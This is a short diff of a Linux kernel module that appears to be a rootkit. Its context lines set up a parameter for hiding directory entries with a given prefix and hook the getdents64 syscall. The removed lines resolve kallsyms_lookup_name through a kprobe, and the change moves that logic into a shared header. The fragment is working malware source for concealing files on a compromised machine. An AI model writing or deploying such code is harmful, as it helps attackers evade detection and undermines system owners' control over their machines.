@@ -43,33 +43,7 @@ static char *prefix = "rkftr_";
 module_param(prefix, charp, 0444);
 MODULE_PARM_DESC(prefix, "hide directory entries starting with this");
 
-typedef unsigned long (*kln_t)(const char *name);
-static kln_t kln;
-
-static bool is_endbr64(unsigned long a)
-{
-	const u8 *p = (const u8 *)a;
-
-	return p[0] == 0xf3 && p[1] == 0x0f && p[2] == 0x1e && p[3] == 0xfa;
-}
-
-/* kallsyms_lookup_name is not exported since 5.7: let a kprobe resolve it. */
-static int resolve_kln(void)
-{
-	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
-	unsigned long a;
-	int err;
-
-	err = register_kprobe(&kp);
-	if (err)
-		return err;
-	a = (unsigned long)kp.addr;
-	unregister_kprobe(&kp);
-	if (is_endbr64(a - 4))
-		a -= 4;
-	kln = (kln_t)a;
-	return 0;
-}
+#include "rk_common.h"
 
 typedef asmlinkage long (*syscall_fn)(const struct pt_regs *);
 static syscall_fn orig_getdents64;
